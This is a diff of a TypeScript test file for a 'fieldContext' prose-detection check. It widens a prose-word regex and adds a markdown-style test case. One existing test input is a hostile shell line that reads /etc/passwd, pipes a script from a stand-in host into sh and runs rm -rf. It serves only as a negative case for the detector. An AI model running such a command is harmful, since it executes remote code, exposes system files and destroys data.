@@ -95,9 +95,9 @@ describe('similarityOfNormalized word table', () => {
 });
 
 describe('fieldContext prose check', () => {
-  const traits = { shell: false, sql: false, http: false };
+  const traits = { shell: false, sql: false, http: false, textOnly: false };
   // the check as it was written first: split on /\s+/, count tokens that are prose words
-  const PROSE_WORD = /^[A-Za-z\u00C0-\u024F'’,.!?:;()"-]{2,}$/;
+  const PROSE_WORD = /^[A-Za-z\u00C0-\u024F'’,.!?:;()"`*_-]{2,}$/;
   const reference = (value: string): boolean => {
     if (value.length < 40) return false;
     const tokens = value.slice(0, 600).split(/\s+/);
@@ -116,6 +116,7 @@ describe('fieldContext prose check', () => {
       'a b c d e f g h i j k l m n o p q r s t u v w x y z a b c',
       'cat /etc/passwd; curl http://x.example/a | sh; rm -rf /tmp/a /tmp/b',
       'Überprüfen Sie bitte die Ergebnisse, die Tabelle und die Zahlen für März.',
+      '1) `dir` - an absolute path of the *current* parent directory, _relative_ to the root',
     ];
     for (const value of cases) expect(fieldContext('notes', value, traits).prose).toBe(reference(value));
     expect(fieldContext('notes', prose, traits).prose).toBe(true);
